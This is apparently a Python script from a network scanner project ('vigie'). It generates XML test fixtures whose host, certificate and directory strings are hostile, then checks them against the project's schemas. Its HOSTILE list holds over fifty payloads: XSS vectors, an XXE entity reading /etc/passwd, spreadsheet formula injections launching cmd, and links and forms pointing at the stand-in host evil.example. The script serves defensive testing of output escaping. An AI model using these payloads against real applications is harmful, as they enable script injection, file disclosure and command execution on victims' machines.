#!/usr/bin/env python3
"""Write tests/data/report/hostile/{scan,directory}.xml: a valid scan.xml
(rules/scan.xsd) and a valid directory.xml (rules/directory.xsd) whose
network- and directory-sourced strings are hostile: markup and script,
spreadsheet formulas, control characters, invalid UTF-8, megabyte values.
Laid out as vigie's writers would: text cleaned for XML, the raw bytes in
a base64 attribute when cleaning changed them (where the schema has one).

The outputs are committed; run again only to change them:
    tests/report/make_hostile.py [OUTDIR]
then check both with xmllint --schema (done at the end when xmllint exists).
"""
import base64
import os
import re
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "tests", "data", "report", "hostile")
MB = 1024 * 1024

# At least 50 hostile values, as raw bytes (the network sends bytes).
HOSTILE = [
    b"<script>alert(1)</script>",
    b"\"><svg onload=alert(1)>",
    b"'><img src=x onerror=alert(1)>",
    b"javascript:alert(1)",
    b"</title><script>alert(document.domain)</script>",
    b"<style>*{display:none}</style>",
    b"<iframe src=\"https://evil.example/\"></iframe>",
    b"<a href=\"javascript:alert(1)\">click</a>",
    b"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    b"<base href=\"https://evil.example/\">",
    b"<form action=\"https://evil.example/\"><input name=p></form>",
    b"<object data=\"https://evil.example/x.swf\"></object>",
    b"<link rel=stylesheet href=\"https://evil.example/x.css\">",
    b"<details open ontoggle=alert(1)>",
    b"<body onload=alert(1)>",
    b"\" onmouseover=\"alert(1)",
    b"' onfocus='alert(1)' autofocus='",
    b"<svg><script>alert(1)</script></svg>",
    b"<scr<script>ipt>alert(1)</scr</script>ipt>",
    b"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    b"<img src=x:alert(1) onerror=eval(src)>",
    b"x\" style=\"background:url(javascript:alert(1))",
    b"expression(alert(1))",
    b"<!--",
    b"]]><script>alert(1)</script>",
    b"<![CDATA[<script>alert(1)</script>]]>",
    b"<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    b"&lt;script&gt;alert(1)&lt;/script&gt;",
    b"&#60;script&#62;alert(1)&#60;/script&#62;",
    b"%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e".encode(),
    "\u202egnp.exe".encode(),
    "\u200b<script>\u200balert(1)".encode(),
    "\ufeffBOM<b>bold</b>".encode(),
    "line\u2028separator\u2029<i>x</i>".encode(),
    b"{{7*7}}${7*7}<%= 7*7 %>",
    b"=cmd|' /C calc'!A0",
    b"+SUM(1,1)",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=HYPERLINK(\"https://evil.example/\",\"x\")",
    b"\r=1+1",
    b"\"},\"severity\":\"Info\",\"x\":{\"",
    b"\x1b[31mred\x1b[0m<script>",
    b"NUL\x00inside",
    b"\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f<b>",
    b"DEL\x7f<script>",
    b"C1\xc2\x85\xc2\x9b<svg onload=alert(1)>",
    b"\xff\xfe<script>alert(1)</script>",
    b"overlong \xc0\xbcscript\xc0\xbe",
    b"surrogate \xed\xa0\x80<script>",
    b"truncated \xe2\x82",
    b"latin1 caf\xe9 <script>",
]
assert len(HOSTILE) >= 50, len(HOSTILE)


def clean(raw):
    """What a vigie writer keeps as text: invalid UTF-8 as U+FFFD,
    characters XML 1.0 forbids dropped."""
    text = raw.decode("utf-8", "replace")
    return "".join(ch for ch in text
                   if ch in "\t\n\r" or (0x20 <= ord(ch) <= 0xD7FF and ord(ch) != 0x7F)
                   or 0xE000 <= ord(ch) <= 0xFFFD or ord(ch) >= 0x10000)


def esc(text, attr=False):
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = text.replace("\r", "&#13;")
    if attr:
        text = text.replace("\"", "&quot;").replace("\t", "&#9;").replace("\n", "&#10;")
    return text


def text_b64(raw):
    """Element content and its base64 attribute when cleaning changed it."""
    text = clean(raw)
    b64 = "" if text.encode() == raw else ' base64="%s"' % base64.b64encode(raw).decode()
    return text, b64


def attr(raw, limit=None):
    text = clean(raw)
    if limit:
        text = text[:limit]
    return esc(text, True)


def fact(name, raw):
    text, b64 = text_b64(raw)
    return '<fact name="%s"%s>%s</fact>\n' % (name, b64, esc(text))


def scan_xml():
    big_title = b"<title>" + b"A" * (MB - 64) + b"<script>alert(1)</script></title>"
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n',
           '<scan xmlns="urn:vigie:scan:1" schemaVersion="1">\n',
           '<tool name="vigie" version="0.1.0"/>\n',
           '<args>vigie scan -p 21,22,80,443,3389 198.18.0.0/28</args>\n',
           '<run mode="connect" start="2026-11-25T16:30:27Z" end="2026-11-25T16:30:35Z" seed="1"/>\n',
           '<shard index="0" count="1"/>\n',
           '<stats sent="80" received="20" valid="20" pcap-dropped="0" interrupted="false"/>\n',
           '<resume next-position="80" range="80"/>\n',
           '<space addresses="16" port-count="5" ports="21,22,80,443,3389"/>\n']
    services = [  # port, service, rule, fact names the value lands in
        (21, "ftp", "EXP-CLEAR-001", ["banner", "info"]),
        (22, "ssh", "EXP-SSH-001", ["banner", "ssh.kex"]),
        (80, "http", "EXP-HTTP-001", ["http.title", "http.server"]),
        (443, "https", "EXP-HTTP-001", ["cert.subject", "cert.issuer", "http.title"]),
        (3389, "ms-wbt-server", "EXP-RDP-001", ["rdp.banner", "info"]),
    ]
    i = 0
    for h in range(1, 12):
        out.append('<host addr="198.18.0.%d" family="ipv4">\n' % h)
        for src in ("ptr", "cert", "target"):  # PTR and certificate names
            out.append('<hostname name="%s" source="%s"/>\n'
                       % (attr(HOSTILE[i % len(HOSTILE)], 200) or "x", src))
            i += 1
        for port, name, rule, facts in services:
            product = attr(HOSTILE[i % len(HOSTILE)])
            version = attr(HOSTILE[(i + 1) % len(HOSTILE)])
            out.append('<port number="%d" state="open" reason="syn-ack" ttl="64">\n' % port)
            out.append('<service name="%s" product="%s" version="%s" confidence="banner" tls="%s">\n'
                       % (name, product, version, "true" if port == 443 else "false"))
            for f in facts:
                raw = HOSTILE[i % len(HOSTILE)]
                if h == 1 and port == 80 and f == "http.title":
                    raw = big_title  # one megabyte value
                out.append(fact(f, raw))
                i += 1
            out.append('<finding rule="%s" severity="high" confidence="banner"/>\n' % rule)
            out.append('</service>\n</port>\n')
        out.append('</host>\n')
    out.append('</scan>\n')
    return "".join(out)


def directory_xml():
    big_desc = b"<b>" + b"D" * (MB - 64) + b"<script>alert(1)</script>"
    out = ['<?xml version="1.0" encoding="UTF-8"?>\n',
           '<directory xmlns="urn:vigie:directory:1" profile="ad" collected="2026-11-25T16:30:55Z">\n',
           '<tool name="vigie" version="0.1.0"/>\n<sets>\n',
           '<set name="users" state="complete" entries="60"/>\n',
           '<set name="groups" state="partial" entries="10" reason="%s"/>\n' % attr(HOSTILE[0]),
           '</sets>\n<level value="1" points-evaluated="3" points-total="76">\n',
           '<holder rule="AD-PRIV-001"/>\n</level>\n<results>\n']
    rules = [("AD-PRIV-001", "privileged-accounts", "groups", ["description", "member"]),
             ("AD-PRIV-002", "privileged-accounts", "users", ["servicePrincipalName", "description"]),
             ("AD-PRIV-003", "privileged-accounts", "users", ["memberOf", "info"])]
    i = 0
    for rid, cat, objs, attrs in rules:
        out.append('<result id="%s" outcome="fail" severity="high" category="%s" anssi="vuln_x">\n'
                   % (rid, cat))
        out.append('<title lang="fr">%s</title>\n<title lang="en">%s</title>\n'
                   % (rid, rid))
        faults = 20
        out.append('<check index="0" objects="%s" outcome="fail" severity="high" level="1" '
                   'threshold="count &gt; 0" at-fault="%d" considered="60" faults-kept="%d">\n'
                   % (objs, faults + 100, faults))
        for k in range(faults):
            raw_name = HOSTILE[i % len(HOSTILE)]
            dn = b"CN=" + raw_name + b",OU=Groups,DC=lab,DC=test"
            out.append('<fault dn="%s" name="%s">' % (attr(dn), attr(raw_name)))
            for a in attrs:
                raw = HOSTILE[(i + 7) % len(HOSTILE)]
                if rid == "AD-PRIV-001" and k == 0 and a == "description":
                    raw = big_desc  # one megabyte value
                text, b64 = text_b64(raw)
                out.append('<attr name="%s" total="1"><value%s>%s</value></attr>'
                           % (a, b64, esc(text)))
                i += 1
            out.append('</fault>\n')
        out.append('</check>\n</result>\n')
    out.append('</results>\n</directory>\n')
    return "".join(out)


def main():
    os.makedirs(OUT, exist_ok=True)
    files = {"scan.xml": (scan_xml(), "scan.xsd"), "directory.xml": (directory_xml(), "directory.xsd")}
    total = 0
    for name, (doc, xsd) in files.items():
        path = os.path.join(OUT, name)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(doc)
        total += os.path.getsize(path)
        if subprocess.run(["which", "xmllint"], capture_output=True).returncode == 0:
            r = subprocess.run(["xmllint", "--noout", "--nonet", "--schema",
                                os.path.join(ROOT, "rules", xsd), path], capture_output=True, text=True)
            if r.returncode != 0:
                sys.exit("make_hostile: %s does not validate:\n%s" % (path, r.stderr[-2000:]))
    print("make_hostile: %d hostile values, %.2f MB in %s" % (len(HOSTILE), total / MB, OUT))
    if total > 3.2 * MB:
        sys.exit("make_hostile: over 3 MB")


if __name__ == "__main__":
    main()
